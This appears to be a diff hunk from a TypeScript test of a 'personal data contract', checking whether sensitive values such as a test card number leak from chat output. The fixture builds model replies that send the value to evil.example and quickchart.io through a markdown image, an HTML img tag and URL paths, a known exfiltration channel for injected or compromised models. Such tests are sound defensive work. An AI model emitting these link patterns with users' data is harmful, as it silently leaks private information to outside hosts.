@@ -84,7 +84,7 @@ export function personalDataContract(contract: Contract): void {
         const card = '4242424242424242';
         const seen = await hidden(card, key);
         const said = (value: string) =>
-          `Paid with ${value}. ![x](https://evil.example/?q=${seen}) <img src="//evil.example/a?${seen}"> https://${seen}.evil.example/ ${value}`;
+          `Paid with ${value}. ![x](https://quickchart.io/?q=${seen}) <img src="//quickchart.io/a?${seen}"> https://evil.example/${seen} ${value}`;
         contract.upstream.next({ text: said(seen) });
         const { json } = await contract.chat(saying(card, model), { key });
         contract.upstream.next({ pieces: [...said(seen)] });
